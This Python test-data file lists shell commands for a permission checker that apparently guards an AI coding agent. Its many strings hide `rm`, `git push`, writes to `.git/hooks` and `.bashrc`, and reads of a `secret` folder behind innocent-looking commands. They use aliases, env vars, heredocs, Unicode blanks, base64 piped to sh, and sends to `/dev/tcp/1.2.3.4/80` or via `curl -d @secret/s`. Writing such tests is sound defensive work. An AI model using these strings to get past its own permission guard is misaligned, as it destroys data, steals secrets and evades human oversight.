"""Commands that try to get past a rule, one a line: each was made up to break what stands guard.

`NOT_STATUS` pretend to be `git status`; `SAME_STATUS` are it. `STILL_RM` run `rm` all the same;
of `HIDDEN_RM` nobody can say it before they run. `NOT_RM` only look like it.
"""

from tests.permissions.tables import bars

NOT_STATUS = [
    *bars(
        "git status; rm -rf x|git status && rm x|git status ¦¦ rm x|git status ¦ sh|git status & rm x|"
        "git status;rm x|git status&rm x|git status¦&rm x|git status;;rm x|git status & disown|"
        "git status $(rm x)|git status `rm x`|git status <(rm x)|git status >(rm x)|"
        'git status "$(rm x)"|git status ${x:-$(rm x)}|git status ${x:-`rm x`}|'
        "git status $((a[$(rm x)]))|git status $[a[`rm x`]]|git status {a,$(rm x)}|"
        "git status > /etc/x|git status >> ~/.bashrc|git status > .git/hooks/pre-commit|"
        "git status > x|git status &> x|git status >¦ x|git status <> x|git status 1>x|git status 2>x|"
        'git status > $X|git status > "$(rm x)"|git status 3>&1 >/etc/x|git status {fd}>x|'
        "git status > /dev/tcp/1.2.3.4/80|exec 3<>/dev/tcp/1.2.3.4/80; git status|exec > x; git status|"
        "git status <<< $(rm x)|git status ¦ tee x|git status ¦ xargs rm|git status ¦ while read x; do :; done|"
        "env git status|env GIT_PAGER='rm x' git status|GIT_PAGER=x git status|GIT_DIR=/x git status|"
        "PATH=/tmp git status|LD_PRELOAD=x git status|BASH_ENV=x git status|PROMPT_COMMAND='rm x' git status|"
        "x=$(rm x) git status|x=`rm x`; git status|LANG=$(rm x) git status|IFS=x; git status|"
        "sudo git status|doas git status|bash -c 'git status'|eval git status|eval 'git status; rm x'|"
        "command git status|exec git status|builtin git status|coproc git status|setsid git status|"
        "timeout 5 rm x git status|time -o x git status|xargs -a f git status|xargs -I git rm git status|"
        "find . -exec git status {} +|find . -execdir git status ';'|parallel git status|watch git status|"
        "alias git=rm; git status|git() { rm x; }; git status|function git { rm x; }; git status|"
        "source x; git status|. ./x && git status|hash -p /bin/rm git; git status|enable -f x git; git status|"
        "trap 'rm x' EXIT; git status|shopt -s expand_aliases; git status|set -- x; git status|"
        "declare x=$(rm x); git status|export PATH=x; git status|readonly x; git status|unset x; git status|"
        "let 'x=a[$(rm x)]'; git status|printf -v x y; git status|test -v 'a[$(rm x)]' && git status|"
        "[[ -n $(rm x) ]] && git status|[[ a[$(rm x)] -eq 1 ]] && git status|((a[$(rm x)])); git status|"
        "cd /etc && git status|cd .. && git status|pushd /x && git status|cd $X && git status|"
        "git -c core.fsmonitor='rm x' status|git -C /x status|git statusx|git status-x|GIT STATUS|"
        "{git,rm} status|$'git' status|git status $'; rm x'|git status $\"x\"|git status $X|git $X|$X status|"
        "(git status)|{ git status; }|if git status; then rm x; fi|for i in $(rm x); do git status; done|"
        "while git status; do rm x; done|case x in x) rm x;; esac; git status|select x in a; do git status; done|"
        "git status $(|git status )|git status '|git status \"|git status ;;|git status @(a¦b)|git status ?(x)|"
        "git status; exit|git status; kill 1|nohup -- git status|git status¦rm x"
    ),
    "git status\nrm x",
    "git status\r\nrm x",
    "git status\x00rm x",
    "git status\vrm x",
    "git status\frm x",
    "git status\x1b[2Krm x",
    "git status \\\n; rm x",
    "git status # \nrm x",
    "git status #\\\nrm x",
    "# x \\\nrm y\ngit status",
    "git status\\\nrm",
    "alias git=rm\ngit status",
    "trap 'rm x' DEBUG\ngit status",
    "git status <<EOF\n$(rm x)\nEOF",
    "git status <<'EOF'\nx\nEOF\nrm x",
    "git status <<'EOF' ; rm x\nx\nEOF",
    "git status <<'E'OF\nx\nEOF\nrm x",
    "git status <<'A' <<'B'\nA\nB\nrm x",
    "cat <<'EOF' > /etc/x\nEOF\ngit status",
    # Blanks that are none to the shell make other words, and what follows is a command of its own.
    "git\u00a0status; rm x",
    "git status\u00a0; rm x",
    "git status\u3000&& rm x",
    "git status \u200b; rm x",
    "git\u2003status",
    "\uff47it push; git status",
    "git\u0000status",
]
SAME_STATUS = [
    *bars(
        "git status|git status -s|git  status|git status;|! git status|time git status|nohup git status|"
        "timeout 5 git status|timeout -s 9 5 git status|nice -n 5 git status|stdbuf -oL git status|"
        "xargs git status|LANG=C git status|cd sub && git status|git status 2>/dev/null|git status 2>&1|"
        "git status # $(rm x)|git status '; rm x'|git status \"; rm x\"|git status \\; rm|git status *|"
        "if true; then git status; fi|git status && git status|git status ¦ head"
    ),
    "git status \\\n  -s",
    "\ngit status\n",
    "# x\ngit status",
    "git status <<'EOF'\n$(rm x)\nEOF",
]
STILL_RM = bars(
    "setsid rm z|chrt 1 rm z|prlimit rm z|numactl -N 0 rm z|systemd-run rm z|dbus-run-session rm z|"
    "unbuffer rm z|toybox rm z|busybox rm z|/lib64/ld-linux-x86-64.so.2 /bin/rm z|proot rm z|"
    "firejail rm z|valgrind rm z|gdb --args rm z|setarch x86_64 rm z|linux64 rm z|pkexec rm z|"
    "setpriv --reuid 1 rm z|cgexec -g x rm z|perf stat rm z|strace -f rm z|taskset 1 rm z|"
    "ionice -c3 rm z|chroot / rm z|unshare rm z|nsenter -t 1 rm z|flock f rm z|runuser -u x -- rm z|"
    "sg root 'rm z'|capsh -- -c 'rm z'|su -c 'rm z'|su root -c 'rm z'|script -qc 'rm z' /dev/null|"
    "flock f -c 'rm z'|watch -n1 'rm z'|parallel 'rm z' ::: 1|parallel rm ::: z|"
    "env -S 'rm z'|env -S'rm z'|env --split-string='rm z'|env -u X rm z|env -C /tmp rm z|env -- rm z|"
    "env -i bash -c 'rm z'|/usr/bin/env rm z|sudo -s rm z|sudo --user=x rm z|sudo -E A=1 rm z|"
    "sudo sh -c 'rm z'|doas rm z|exec -a x rm z|command -p rm z|command -- rm z|builtin command rm z|"
    "trap 'rm z' EXIT|alias x='rm z'; x|eval rm z|eval 'true; rm z'|PROMPT_COMMAND='rm z' bash -i|"
    "bash -lc 'rm z'|bash -o posix -c 'rm z'|bash +x -c 'rm z'|bash --norc -c 'rm z'|bash -xec 'rm z'|"
    "bash -c -- 'rm z'|bash -c -x 'rm z'|bash -c rm\\ z|dash -c 'rm z'|busybox sh -c 'rm z'|"
    "xargs sh -c 'rm z'|find . -exec sh -c 'rm z' ;|find . -execdir bash -c 'rm z' +|xargs rm|"
    "nohup nohup nohup rm z|timeout -k 1 -s KILL 5 rm z|nice -n 5 timeout 3 env rm z|timeout $X rm z|"
    "/usr/bin/../bin/rm z|r''m z|r\\m z|rm<z|rm>z|>z rm z|2>&1 rm z|<z rm z|x=1 y=2 rm z|x+=1 rm z|"
    "a[0]=1 rm z|rm${IFS}z|rm z &|rm z;|rm --help|:; rm z|ls ¦& rm z|case x in x) rm z;; esac|"
    "select x in a; do rm z; done|until rm z; do :; done|function x() { rm z; }; x|f() ( rm z ); f|"
    '[[ $(rm z) ]]|(( a[$(rm z)] ))|echo $((`rm z`))|echo ${x:-$(rm z)}|cat <<< "$(rm z)"|echo >(rm z)|'
    "for ((i=$(rm z);;)); do :; done|if :; then :; elif rm z; then :; fi|{ rm z; } > x|rm\tz|rm z '|rm z )|"
    "trap -- 'rm z' EXIT|eval -- rm z|env --split='rm z'|env -iS 'rm z'|bash -eo pipefail -c 'rm z'|"
    "bash -c -o pipefail 'rm z'|bash -co pipefail 'rm z'|bash -euo pipefail -xc 'rm z'|"
    "su root '-crm z'|su -c'rm z'|script -qc'rm z' x|flock f -c'rm z'|su --comm='rm z'|"
    "su --session-command 'rm z'|runuser --session-command='rm z'|watch 'rm;ls'|watch 'rm<z'|"
    "parallel 'rm;ls'|tmux new -d 'rm z'|find . -exec env sh -c 'rm z' ;|fish --command='rm z'|"
    "fish -C 'rm z' x|csh -c 'rm z'|bash-5.2 -c 'rm z'|/lib/ld-musl-x86_64.so.1 /bin/rm z|"
    "PS4='$(rm z)'; set -x; ls|PROMPT_COMMAND='rm z'; bash -i|export PS4='$(rm z)'; bash -xc ls|"
    "declare -x PROMPT_COMMAND='rm z'|env PS4='$(rm z)' bash -x f|PROMPT_COMMAND[0]='rm z'; bash -i|"
    "env BASH_FUNC_ls%%='() { rm z; }' bash -c ls|echo z ¦ xargs -IX sh -c 'rm X'|"
    "xargs -n 1 -P 4 env rm"
)
HIDDEN_RM = [
    *bars(
        "x=rm; $x z|${x:-rm} z|r${x}m z|{rm,z}|{r,}m z|$'\\x72m' z|$\"rm\" z|[r]m z|r* z|! ! rm z|"
        "time ! rm z|coproc x { rm z; }|bash -s <<< 'rm z'|bash <(echo rm z)|bash -c $'rm z'|"
        "sh -c '\"$@\"' _ rm z|sh -c '$0 z' rm|echo cm0geg== ¦ base64 -d ¦ sh|echo rm z ¦ bash -|"
        "printf 'rm z' ¦ xargs -I{} sh -c {}|. <(echo rm z)|source /dev/stdin <<< 'rm z'|"
        "echo ${x:-`rm z`}|echo ${x/`rm z`/y}|let 'a[$(rm z)]'|test -v 'a[$(rm z)]'|printf -v 'a[$(rm z)]' x|"
        "read 'a[$(rm z)]'|unset 'a[$(rm z)]'|hash -p /bin/rm y; y z|mapfile -C 'rm z' -c 1 x|"
        "complete -C 'rm z' x|bind -x '\"a\": rm z'|fc -s rm|history -s 'rm z'|BASH_ENV=<(echo rm z) bash -c :|"
        'sudo $X z|xargs $X|eval $X|alias $X|trap "$X" EXIT|find . -exec sh -c {} ;|'
        "env -S 'rm\\_z'|echo rm z ¦ parallel|echo rm z ¦ xargs env|echo rm ¦ xargs -I{} {} z|"
        "echo rm z ¦ xargs -I% sh -c %|echo rm z ¦ xargs -n2 sudo|echo rm ¦ xargs -i env {} z|"
        "source -- /dev/stdin <<< 'rm z'|bash //dev/stdin|bash ../dev/stdin|bash x/../../dev/./stdin|sh -- -|"
        "cd /dev; bash stdin <<< 'rm z'|echo rm z ¦ tee >(bash)|echo rm z > >(bash)|f() { bash; }; echo rm z ¦ f|"
        "{ bash; } < <(echo rm z)|export BASH_ENV=/dev/stdin|at now <<< 'rm z'|echo 'rm z' ¦ at now|"
        "echo `echo \\`rm z\\``"
    ),
    *bars(
        "BASH_CMDS[ls]=/bin/rm; ls z|declare BASH_CMDS[ls]=/bin/rm; ls z|BASH_CMDS+=([ls]=/bin/rm); ls z|"
        "printf -v 'BASH_CMDS[ls]' /bin/rm; ls z|declare -n x=BASH_CM\"\"DS; x[ls]=/bin/rm; ls z|"
        "BASH_ALIASES[ls]='rm z'; shopt -s expand_aliases; ls|BASH_ENV='$(rm z)' bash f|ENV='`rm z`' sh -i|"
        "((x='$(rm z)'))|echo $((x='$(rm z)'))|echo \"$(( '$(rm z)' ))\"|echo $['$(rm z)']|a['$(rm z)']=1|"
        "echo ${a['$(rm z)']}|a[$'$(rm z)']=1|echo \"${x:-'$(rm z)'}\"|echo \"${x:='`rm z`'}\"|"
        "echo \"${x:-$'\\x24(rm z)'}\"|x='$(rm z)'; echo ${x@P}|declare -a 'x=($(rm z))'|"
        "declare -A 'x=([$(rm z)]=1)'|export -a 'x=(`rm z`)'|declare -a \"x=(\\$(rm z))\"|"
        "declare -a x=\\(\\$\\(rm\\ z\\)\\)|f() { local -a 'x=($(rm z))'; }; f|let a[\\$\\(rm\\ z\\)]|"
        "let $'a[$(rm z)]'|let $'a[\\x24(rm z)]'|set -- 'a[$(rm z)]'; echo $(($1))|"
        "for x in 'a[$(rm z)]'; do ((x)); done|f() { local -i y=$1; }; f 'a[$(rm z)]'"
    ),
    "cat <<EOF\n${x:-'$(rm z)'}\nEOF",
    "cat <<EOF\n`rm z`\nEOF",
    "cat <<-EOF\n\t$(rm z)\n\tEOF",
    "cat <<EOF\n$(ls) `rm z`\nEOF",
]
HIDDEN_PUSH = bars("echo push x ¦ xargs git|echo push ¦ xargs -I{} git {} x|xargs git $X")
"""Commands of which nobody can say whether they are `git push`."""
NOT_RM = [
    *bars(
        "echo rm z|printf 'rm z'|rmdir z|rm_z|npm rm z|git rm z|ls rm|cat 'rm z'|ls # rm z|RM z|ls 'rm z' z|"
        "alias x=ls|trap 'ls' EXIT|bash -c 'ls rm'|bash rm|env A=rm ls|test rm = z|read x|printf -v x rm|"
        "trap - EXIT|bash --version|bash -eo pipefail x.sh|env -i A=1 ls|ls ¦ xargs|ls ¦ xargs -n 1 echo|"
        "ls ¦ xargs -I{} cp {} x|ls ¦ xargs grep -i rm|xargs -0 -n1 ls < f|PS1=x; ls|watch ls|"
        "declare -a x='(a b)'|declare -a x=($(ls))|awk '{a[$(NF)]++}' f|echo \"${x:-'a'}\"|a[$((i+1))]=3|"
        "[ \"${a[0]}\" = x ]|printf '%s\\n' $'a\\tb'|echo \"$(echo '$(rm z)')\"|sed -i 's/a[$(]/b/' f|let i=i+1"
    ),
    "cat <<'EOF'\n`rm z`\nEOF",
    "cat <<EOF\n\\`rm z\\` $(ls)\nEOF",
]
HOOK_WRITES = bars(
    "if true; then ls; fi > .git/hooks/pre-commit|! ls > .git/config|cd .git && if true; then ls; fi > config|"
    "if true; then echo x; fi > .bashrc|cd .git; echo x > config|cd .git && touch x|cd .claude; rm x|"
    "if cd .git; then touch config; fi|mv a .git/config|cp a .git|echo x >> .git/config|cat a > .mcp.json|cp x .g*/hooks/pre-commit|"
    "rm -rf .*|mv x .gi?/config|touch .[g]it/config|touch .[^x]it/config|touch .[[:alpha:]]it/config|touch .g[i-k]t/x|sed -i s/a/b/ .gi*/config|cp a .claude*/x|cp -t .g* x|"
    "cp -t.git config|mv -ft.git config|cp -rt.git/hooks a|cp --target-directory=.git a|touch .bash*"
)
"""Commands that change what programs do later: approved in every mode but `bypassPermissions`."""
SECRET_READS = bars(
    "bash -c 'cd secret && cat s'|bash -c '{ cat; } < secret/s'|if true; then cat; fi < secret/s|"
    "cd secret; if true; then cat; fi < s|cat 'secret'/s|cat -- secret/s|cat --x=secret/s|"
    "cd -P secret && cat s|command cd secret && cat s|cd sub; cat ../secret/s|cd secret/.. && cat secret/s|"
    "grep -e. secret/s|grep --regexp=. secret/s|grep -re. secret|grep -f secret/s x|grep -fsecret/s x|"
    "sed -n -ep secret/s|sed -nf secret/s x|jq -f secret/s|jq -nf secret/s|date -fsecret/s|diff -Xsecret/s a b|"
    "find -O3 secret|find -D tree secret|dd if=secret/s|curl -d @secret/s x|git show HEAD:secret/s|"
    'echo $(<secret/s)|echo "$(< secret/s)"|export X=$(<secret/s)|x=$(<secret/s)'
)
HIDDEN_READS = bars(
    "pushd secret; cat s|cd $X && cat s|cat secre[t]/s|cat secre[^x]/s|cat secre[[:alpha:]]/s|cat s[e-f]cret/s|cat < $(echo secret/s)|cat {secret,x}/s|eval $X; cat s|"
    "HOME=/workspace/secret; cat ~/s|export HOME=/workspace/secret; cat ~/s|HOME=secret cd && cat s|"
    "CDPATH=secret; cd sub && cat s|CDPATH=secret cd sub && cat s"
)
